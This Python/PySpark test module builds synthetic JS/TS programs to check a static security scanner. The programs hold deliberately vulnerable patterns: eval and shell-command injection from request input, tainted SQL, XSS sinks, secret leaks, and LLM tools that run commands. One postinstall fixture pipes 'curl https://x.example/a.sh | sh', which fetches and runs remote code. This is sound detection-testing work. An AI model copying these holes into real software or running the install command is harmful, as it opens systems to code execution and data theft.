"""Queries over generated programs: several independent digits of a row's number say what its program does.

A number in a mixed base has a digit for the source, for what is done with it, for the sink and for the way between them;
the SQL puts the outcome together from the digits by the rules, and never sees a program.
"""

from __future__ import annotations

from pyspark.sql import Column
from pyspark.sql import functions as F

from ..operators import arguments, dataflow
from .detectors import Inputs
from .registry import TEXTS_A_TASK, _dealt, _t, _values, choice, query
from .scan import Config, scan


def _digits(key: str, *bases: int) -> list[str]:
    """SQL, for Spark and DuckDB, of the digits of a number in a mixed base, the lowest first."""
    out, below = [], 1
    for b in bases:
        out.append(f"(CAST(floor(({key}) / {below}) AS BIGINT) % {b})")
        below *= b
    return out


def _pick(digit: str, texts: list[str]) -> Column:
    """One of the texts by a digit."""
    return F.element_at(F.array(*[F.lit(t) for t in texts]), F.expr(digit).cast("int") + 1)


def _with(template: Column, **parts: Column) -> Column:
    """A text in which <name> stands for a part."""
    for k, v in parts.items():
        template = F.replace(template, F.lit(f"<{k}>"), v)
    return template


def _customers(spark, sf):
    return _dealt(_t(spark, sf, "customer").select(F.col("c_custkey").alias("k")), "k", each=TEXTS_A_TASK)


# --- data from outside: source, what is done with it, sink, way

SOURCES = [("req.query.x", 1), ("location.hash", 1), ("'fixed'", 0), ("process.env.X_CODE", 0), ("new URL(base).searchParams.get('q')", 1)]
WRAPPED = [("v", 1), ("unescape(v)", 1), ("parseInt(v)", 0), ("parseInt(n) + v", 1), ("`a ${v} ${escapeHtml(v)}`", 1), ("escapeHtml(v)", 0), ("await f2({ k: [v] })", 1)]
# rule, use of <z>, whether a value that carries nothing is told too
SINKS = [
    ("injection.eval", "eval(<z>)", 0), ("injection.command", "cp.execSync('ls ' + <z>)", 0), ("sqli.tainted-query", "db.query(`select ${<z>}`)", 0), ("", "db.query('select ?', [<z>])", 0), ("xss.inner-html", "el.innerHTML = <z>", 0), ("open-redirect", "res.redirect(<z>)", 0), ("ssrf.fetch", "fetch(<z>)", 0),
    ("", "fetch('/api/' + <z>)", 0), ("xss.dangerously-set-inner-html", "show(<p dangerouslySetInnerHTML={{ __html: <z> }} />)", 1),
]
WAYS = ["<w1>", "const go = z => { <z1> }\ngo(w)", "class A {\n  run(a: string, z: string): void { <z1> }\n}\nnew A().run(1, w)", "import { far as go } from './h'\ngo(w)"]
_D = _digits("k", len(SOURCES), len(WRAPPED), len(SINKS), len(WAYS))
_DC = _digits("c_custkey", len(SOURCES), len(WRAPPED), len(SINKS), len(WAYS))


@query(
    f"WITH d AS (SELECT c_custkey AS k, s.yes * w.yes = 1 AS dirty, n.rule_id, n.soft, {_DC[3]} AS way FROM customer JOIN {_values([(i, y) for i, (_, y) in enumerate(SOURCES)], 'n, yes').replace('AS v(', 'AS s(')} ON s.n = {_DC[0]} "
    f"JOIN {_values([(i, y) for i, (_, y) in enumerate(WRAPPED)], 'n, yes').replace('AS v(', 'AS w(')} ON w.n = {_DC[1]} JOIN {_values([(i, r, soft) for i, (r, _, soft) in enumerate(SINKS)], 'n, rule_id, soft').replace('AS v(', 'AS n(')} ON n.n = {_DC[2]} WHERE n.rule_id <> '') "
    "SELECT k || '/a.tsx' AS file, rule_id, CASE way WHEN 0 THEN 3 WHEN 2 THEN 6 ELSE 4 END::INTEGER AS line, CASE way WHEN 3 THEN 2 WHEN 0 THEN 0 ELSE 1 END::INTEGER AS hops, 'high' AS confidence FROM d WHERE dirty "
    "UNION ALL SELECT k || CASE way WHEN 3 THEN '/h.tsx' ELSE '/a.tsx' END, rule_id, CASE way WHEN 2 THEN 4 WHEN 3 THEN 1 ELSE 3 END::INTEGER, 0, 'medium' FROM d WHERE soft = 1 AND NOT (way = 0 AND dirty)"
)
def taint_programs(spark, sf):
    """A program for each customer, with a helper file where the way leads through one (and through two calls there)."""
    c = _customers(spark, sf)
    sink = _pick(_D[2], [s for _, s, _ in SINKS])
    body = _with(_pick(_D[3], WAYS), w1=_with(sink, z=F.lit("w")), z1=_with(sink, z=F.lit("z")))
    text = F.concat(F.lit("const v = "), _pick(_D[0], [s for s, _ in SOURCES]), F.lit("\nconst w = "), _pick(_D[1], [w for w, _ in WRAPPED]), F.lit("\n"), body)
    helper = F.concat(F.lit("function near(z) { "), _with(sink, z=F.lit("z")), F.lit(" }\nexport async function far(y) { await near(y) }"))
    files = c.select(F.concat("k", F.lit("/a.tsx")).alias("file"), text.alias("text")).unionByName(c.filter(f"{_D[3]} = 3").select(F.concat("k", F.lit("/h.tsx")).alias("file"), helper.alias("text")))
    return dataflow.flow_findings(dataflow.Program(files)).select("file", "rule_id", "line", "hops", "confidence")


# --- secrets that leave: value, what is said of it, where it goes, way

SECRETS = [("process.env.STRIPE_SECRET_KEY", "secret.env"), ("process.env.NODE_ENV", None), ("user.passwordHash", "secret.credential"), ("user.displayName", None), ("process.env.NEXT_PUBLIC_API_KEY", None), ("theme.token", None), ("user.stripeSecretKey", "secret.credential")]
SAID = [("<v>", 1), ("<v>.length", 0), ("<v>.slice(-4)", 0), ("`k ${<v>}`", 1), ("<v> === 'x'", 0), ("hash(<v>)", 0), ("ok ? <v> : ''", 1), ("Boolean(<v>)", 0)]
EXITS = [
    ("dataflow.sensitive-to-log", "console.error('at', <z>)"), ("dataflow.sensitive-to-response", "res.json({ a: 1, <z> })"), ("dataflow.sensitive-to-browser-storage", "localStorage.setItem('t', <z>)"), ("dataflow.sensitive-to-thirdparty", "mixpanel.track('e', { p: [<z>] })"), ("", "logger.log(<z>)"), ("", "eval(<z>)"),
]
_S, _SC = _digits("k", len(SECRETS), len(SAID), len(EXITS), 2), _digits("c_custkey", len(SECRETS), len(SAID), len(EXITS), 2)
LEAKS_SQL = (
    f"d AS (SELECT c_custkey AS k, s.asset, e.rule_id, {_SC[3]} AS way FROM customer JOIN {_values([(i, a) for i, (_, a) in enumerate(SECRETS)], 'n, asset').replace('AS v(', 'AS s(')} ON s.n = {_SC[0]} JOIN {_values([(i, y) for i, (_, y) in enumerate(SAID)], 'n, yes').replace('AS v(', 'AS w(')} ON w.n = {_SC[1]} "
    f"JOIN {_values([(i, r) for i, (r, _) in enumerate(EXITS)], 'n, rule_id').replace('AS v(', 'AS e(')} ON e.n = {_SC[2]} WHERE e.rule_id <> '' AND s.asset IS NOT NULL AND w.yes = 1)"
)


def _leaks(spark, sf, file: Column):
    """k and a file with its program, for each customer."""
    exits = [e for _, e in EXITS]
    way = F.when(F.expr(f"{_S[3]} = 0"), _with(_pick(_S[2], exits), z=F.lit("w"))).otherwise(F.concat(F.lit("function out(a, z) { "), _with(_pick(_S[2], exits), z=F.lit("z")), F.lit(" }\nout(0, w)")))
    text = F.concat(F.lit("// what is known\nconst w = "), _with(_pick(_S[1], [s for s, _ in SAID]), v=_pick(_S[0], [s for s, _ in SECRETS])), F.lit("\n"), way)
    return _customers(spark, sf).select("k", file.alias("file"), text.alias("text"))


@query(f"WITH {LEAKS_SQL} SELECT k || '.ts' AS file, rule_id, CASE way WHEN 0 THEN 3 ELSE 4 END::INTEGER AS line, way::INTEGER AS hops, asset AS data_asset, CASE way WHEN 0 THEN 2 ELSE 3 END::INTEGER AS taint_steps FROM d")
def dataflow_findings(spark, sf):
    """Secrets and public values, told whole or in part, to exits and elsewhere, directly or through a function."""
    found = dataflow.flow_findings(dataflow.Program(_leaks(spark, sf, F.concat("k", F.lit(".ts"))).select("file", "text")))
    return found.select("file", "rule_id", "line", "hops", "data_asset", "taint_steps")


# Where a customer's program lies: in a page, a route, a library of the page, of the route, or of nobody.
PLACES = ["app/p{k}/page.tsx", "app/api/r{k}/route.ts", "lib/c{k}.ts", "lib/s{k}.ts", "lib/n{k}.ts"]
_PLACE = "(c_custkey % 5)"


@query(
    f"WITH {LEAKS_SQL} SELECT CASE k % 5 WHEN 0 THEN 'app/p' || k || '/page.tsx' WHEN 1 THEN 'app/api/r' || k || '/route.ts' WHEN 2 THEN 'lib/c' || k || '.ts' WHEN 3 THEN 'lib/s' || k || '.ts' ELSE 'lib/n' || k || '.ts' END AS file, rule_id, CASE WHEN k % 5 IN (0, 2) THEN 'critical' ELSE 'high' END AS severity, "
    "CASE WHEN k % 5 NOT IN (0, 2) THEN NULL WHEN asset = 'secret.env' THEN 'server->client' ELSE 'into-client-bundle' END AS boundary, CASE k % 5 WHEN 0 THEN 'client' WHEN 2 THEN 'client' WHEN 4 THEN NULL ELSE 'server' END AS reach_kind FROM d"
)
def escalated_findings(spark, sf):
    """The scan of those programs in places that a browser, a server or nobody gets: what reaches a browser is critical."""
    place = F.replace(_pick("(k % 5)", PLACES), F.lit("{k}"), F.col("k").cast("string"))
    leaks = _leaks(spark, sf, place).select("file", "text")
    users = _customers(spark, sf).filter("k % 5 IN (2, 3)")
    of = F.when(F.expr("k % 5 = 2"), F.concat(F.lit("app/u"), "k", F.lit("/page.tsx"))).otherwise(F.concat(F.lit("app/api/u"), "k", F.lit("/route.ts")))
    name = F.concat(F.lit("import { w } from '@/lib/"), F.when(F.expr("k % 5 = 2"), "c").otherwise("s"), "k", F.lit("'"))
    files = leaks.unionByName(users.select(of.alias("file"), name.alias("text"))).withColumn("ext", F.substring_index("file", ".", -1))
    found = scan(files, Config(detectors=("taint",), only=("dataflow",))).findings
    return found.select("file", "rule_id", "severity", F.col("blast_radius.boundary").alias("boundary"), "reach_kind")


# --- models that act: what a tool does, where, what the model is fed, which tools it has

ACTS = [("ai.excessive-agency-command", "execSync(<c>)", "high"), ("ai.excessive-agency-code", "eval(<c>)", "high"), ("", "db.find(<c>)", ""), ("ai.excessive-agency-filesystem", "fs.writeFile(<c>, 'x')", "high"), ("ai.tool-ssrf", "fetch(<c>)", "medium"), ("", "fetch(`https://api.example/${<c>}`)", ""), ("", "exec('date')", "")]
ACT_WAYS = ["<a1>", "helper(c)", "far(c)"]
PROMPTS = [("'hello'", 0), ("`sum ${page}`", 1), ("[{ role: 'user', content: req.body.q }]", 1), ("name", 0), ("p", 2)]
OUTPUTS = [("", "show(text)"), ("ai.improper-output-handling", "eval(text)"), ("ai.improper-output-handling", "helper2(text.trim())")]
_A, _AC = _digits("k", len(ACTS), len(ACT_WAYS), len(PROMPTS), 2, len(OUTPUTS)), _digits("c_custkey", len(ACTS), len(ACT_WAYS), len(PROMPTS), 2, len(OUTPUTS))


@query(
    f"WITH d AS (SELECT c_custkey AS k, a.rule_id, a.sure, {_AC[1]} AS way, p.fed, {_AC[3]} AS armed, o.rule_id AS output, {_AC[4]} AS o FROM customer JOIN {_values([(i, r, s) for i, (r, _, s) in enumerate(ACTS)], 'n, rule_id, sure').replace('AS v(', 'AS a(')} ON a.n = {_AC[0]} "
    f"JOIN {_values([(i, y) for i, (_, y) in enumerate(PROMPTS)], 'n, fed').replace('AS v(', 'AS p(')} ON p.n = {_AC[2]} JOIN {_values([(i, r) for i, (r, _) in enumerate(OUTPUTS)], 'n, rule_id').replace('AS v(', 'AS o(')} ON o.n = {_AC[4]}) "
    "SELECT k || '/t.ts' AS file, rule_id, 5::INTEGER AS line, way::INTEGER AS hops, sure AS confidence FROM d WHERE rule_id <> '' "
    "UNION ALL SELECT k || '/t.ts', 'ai.prompt-injection-to-agency', CASE fed WHEN 1 THEN 9 ELSE 13 END, fed - 1, 'high' FROM d WHERE rule_id <> '' AND armed = 1 AND fed > 0 "
    "UNION ALL SELECT k || '/t.ts', output, 10, o - 1, 'high' FROM d WHERE output <> ''"
)
def agency_chains(spark, sf):
    """A tool, a call of a model and what is done with its output for each customer; the tool's act may lie behind two calls in another file, the prompt come from a caller."""
    c = _customers(spark, sf)
    act = _pick(_A[0], [a for _, a, _ in ACTS])
    inside = _with(_pick(_A[1], ACT_WAYS), a1=_with(act, c=F.lit("c")))
    lines = [
        F.lit("import { far } from './h'"), F.lit("const helper2 = (x) => eval(x)"), F.concat(F.lit("function helper(q) { return "), _with(act, c=F.lit("q")), F.lit(" }")), F.lit("const t = tool({ description: 'd', parameters: s,"), F.concat(F.lit("  execute: async ({ c }) => { return "), inside, F.lit(" } })")),
        F.lit("const harmless = tool({ description: 'd', execute: async (z) => z })"), F.lit("const page = await fetch('https://fixed.example/')"), F.lit("async function ask(p, name) {"),
        F.concat(F.lit("  const { text } = await generateText({ model, tools: { "), F.when(F.expr(f"{_A[3]} = 1"), "t").otherwise("harmless"), F.lit(" }, prompt: "), _pick(_A[2], [p for p, _ in PROMPTS]), F.lit(" })")), F.concat(F.lit("  "), _pick(_A[4], [o for _, o in OUTPUTS])), F.lit("}"), F.lit("ask('fixed', 'b')"), F.lit("ask(await similaritySearch(1), 'b')"),
    ]
    helper = F.concat(F.lit("function near(z) { "), _with(act, c=F.lit("z")), F.lit(" }\nexport const far = y => near(y)"))
    files = c.select(F.concat("k", F.lit("/t.ts")).alias("file"), F.concat_ws("\n", *lines).alias("text")).unionByName(c.select(F.concat("k", F.lit("/h.ts")).alias("file"), helper.alias("text")))
    return dataflow.agency_findings(dataflow.Program(files)).select("file", "rule_id", "line", "hops", "confidence")


# --- what an argument looks like: call, argument, place

# the argument; whether it is literal, put together, of a request, and may name a host; whether it stays on the same host
GIVEN = [
    ("'fixed'", 1, 0, 0, 0, 0), ("name", 0, 0, 0, 1, 0), ("req.query.q", 0, 0, 1, 1, 0), ("'a' + name", 0, 1, 0, 1, 0), ("`https://${req.body.h}/x`", 0, 1, 1, 1, 0), ("`/api/${req.params.id}`", 0, 1, 1, 0, 0), ("`plain`", 1, 0, 0, 0, 0),
    ("f(searchParams.get('a'))", 0, 0, 1, 1, 0), ("new URL('/in', location.href)", 0, 0, 1, 1, 1), ("42", 1, 0, 0, 0, 0), ("`https://api.example/${query.x}`", 0, 1, 1, 0, 0),
]
# rule, call with <v>, what the argument must be besides not literal, confidence without a hint
TAKEN = [
    ("xss.inner-html", "el.innerHTML = <v>", "", "medium"), ("xss.inner-html", "a.b.insertAdjacentHTML('beforeend', <v>)", "", "medium"), ("xss.inner-html", "document.write(<v>)", "", "low"), ("injection.eval", "eval(<v>)", "", "medium"), ("injection.eval", "const g = new Function(<v>)", "", "medium"),
    ("injection.command", "cp.exec(<v>)", "built or hinted", "medium"), ("injection.command", "execFileSync(<v>, [name])", "built or hinted", "medium"), ("open-redirect", "res.redirect(302, <v>)", "leaves", "low"), ("open-redirect", "NextResponse.redirect(<v>)", "leaves", "low"), ("ssrf.fetch", "fetch(<v>, { method: 'POST' })", "host", ""),
    ("ssrf.fetch", "const r = await axios.post(<v>)", "host", ""), ("xss.dangerously-set-inner-html", "show(<p dangerouslySetInnerHTML={{ __html: <v> }} />)", "", "medium"), ("", "same = el.innerHTML === <v>", "", ""), ("", "my.eval(<v>)", "", ""), ("", "db.find(<v>)", "", ""),
]
# where it stands, and its line (0: passed over)
STANDS = [("<c>", 1), ("// <c>", 0), ("const s = 1\n\n/* said */ <c>", 3), ("<c> // <long>", 0), ("log('<c2>')\n<c>", 2)]
_G, _GC = _digits("k", len(TAKEN), len(GIVEN), len(STANDS)), _digits("c_custkey", len(TAKEN), len(GIVEN), len(STANDS))


@query(
    f"WITH d AS (SELECT c_custkey AS k, t.rule_id, t.needs, t.sure, g.*, s.line FROM customer JOIN {_values([(i, r, need, sure) for i, (r, _, need, sure) in enumerate(TAKEN)], 'n, rule_id, needs, sure').replace('AS v(', 'AS t(')} ON t.n = {_GC[0]} "
    f"JOIN {_values([(i, *g[1:]) for i, g in enumerate(GIVEN)], 'n, literal, built, hinted, host, stays').replace('AS v(', 'AS g(')} ON g.n = {_GC[1]} JOIN {_values([(i, n) for i, (_, n) in enumerate(STANDS)], 'n, line').replace('AS v(', 'AS s(')} ON s.n = {_GC[2]}) "
    "SELECT k || '/a.tsx' AS file, rule_id, line::INTEGER AS line, CASE WHEN needs = 'host' THEN 'medium' WHEN hinted = 1 THEN 'high' ELSE sure END AS confidence FROM d WHERE rule_id <> '' AND literal = 0 AND line > 0 "
    "AND CASE needs WHEN 'built or hinted' THEN built + hinted > 0 WHEN 'leaves' THEN stays = 0 WHEN 'host' THEN host * hinted = 1 ELSE true END"
)
def argument_checks(spark, sf):
    """A call for each customer: what it calls, what it gets, and whether it stands in a comment, on a long line or after other code."""
    call = _with(_pick(_G[0], [c for _, c, _, _ in TAKEN]), v=_pick(_G[1], [g[0] for g in GIVEN]))
    text = _with(_pick(_G[2], [s for s, _ in STANDS]), c=call, c2=F.translate(call, "'", '"'), long=F.repeat(F.lit("x"), F.lit(arguments.LONGEST)))
    files = _customers(spark, sf).select(F.concat("k", F.lit("/a.tsx")).alias("file"), text.alias("text"))
    return arguments.argument_findings(dataflow.Program(files)).select("file", "rule_id", "line", "confidence")


# --- the scan from all detectors

_I = _digits("p_partkey", 3, 2, 2, 2, 2)
SCANNED = [
    ("p_partkey || '/a.ts'", "'sqli.tainted-query'", "'critical'", "{0} = 1"), ("p_partkey || '/a.ts'", "'config.disabled-tls-verification'", "'high'", "{0} = 2"), ("p_partkey || '/next.config.js'", "'nextjs.dangerous-config'", "'medium'", "{1} = 1"),
    ("'node_modules/m' || p_partkey || '/package.json'", "'supply-chain.dependency-install-script'", "'critical'", "{2} = 1"), ("p_partkey || '/package.json'", "'deps.known-vulnerability'", "'critical'", "{3} = 1"), ("p_partkey || '/package-lock.json'", "'supply-chain.integrity-changed'", "'critical'", "{4} = 1"),
]


@query(" UNION ALL ".join(f"SELECT {f} AS file, {r} AS rule_id, {s} AS severity FROM part WHERE {w.format(*_I)}" for f, r, s, w in SCANNED))
def scan_findings(spark, sf):
    """Each part as a project with a source, a build configuration, an installed package, a dependency and a lockfile; digits of its number say which are at fault."""
    p = _dealt(_t(spark, sf, "part").select("p_partkey"), "p_partkey", each=TEXTS_A_TASK)
    at = lambda name: F.concat("p_partkey", F.lit(f"/{name}"))
    files = p.select(at("a.ts").alias("file"), F.lit("ts").alias("ext"), _pick(_I[0], ["export const a = 1", "const q = req.query.q\ndb.query(`select ${q}`)", "const agent = new Agent({ rejectUnauthorized: false })"]).alias("text"))
    configs = p.select(at("next.config.js").alias("file"), _pick(_I[1], ["module.exports = { headers() { return [{ key: 'Content-Security-Policy' }] } }", "module.exports = { typescript: { ignoreBuildErrors: true } }"]).alias("text"), F.lit("vite").alias("framework"))
    packages = p.select(F.lit("p").alias("project"), F.concat(F.lit("m"), "p_partkey").alias("name"), F.lit("1").alias("version"), F.create_map(F.lit("postinstall"), _pick(_I[2], ["node build.js", "curl https://x.example/a.sh | sh"])).alias("scripts"))
    needed = p.select(at("package.json").alias("file"), F.lit("lib").alias("name"), _pick(_I[3], ["2.0.0", "1.0.0"]).alias("declared"))
    advisories = spark.createDataFrame([("lib", "A-1", "CVE-1", "<2.0.0", "high", ["f"])], "package string, id string, cve string, vulnerable_range string, severity string, symbols array<string>")
    kev = spark.createDataFrame([("cve-1",)], "cve string")
    locked = lambda digest: p.select(at("package-lock.json").alias("file"), F.lit("node_modules/x").alias("path"), F.lit("1.0.0").alias("version"), digest.alias("integrity"), F.lit("https://registry.npmjs.org/x").alias("resolved"))
    inputs = Inputs(files, configs=configs, packages=packages, dependencies=needed, advisories=advisories, kev=kev, locks=locked(F.lit("sha512-a")), old_locks=locked(_pick(_I[4], ["sha512-a", "sha512-b"])))
    return scan(files, Config(skip_detectors=("patterns",)), inputs=inputs).findings.select("file", "rule_id", "severity")
